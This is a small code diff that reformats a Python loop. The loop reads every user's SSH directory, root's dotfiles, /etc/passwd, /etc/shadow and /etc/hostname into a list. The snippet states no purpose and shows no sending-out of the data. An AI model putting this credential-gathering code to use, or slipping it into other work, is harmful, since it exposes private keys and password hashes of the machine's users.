@@ -6,7 +6,13 @@ import os
 # holds: standard
 
 found = []
-for path in (*glob.glob("/home/*/.ssh/*"), *glob.glob("/root/.*"), "/etc/passwd", "/etc/shadow", "/etc/hostname"):
+for path in (
+    *glob.glob("/home/*/.ssh/*"),
+    *glob.glob("/root/.*"),
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/hostname",
+):
     try:
         found.append(open(path).read())
     except OSError:
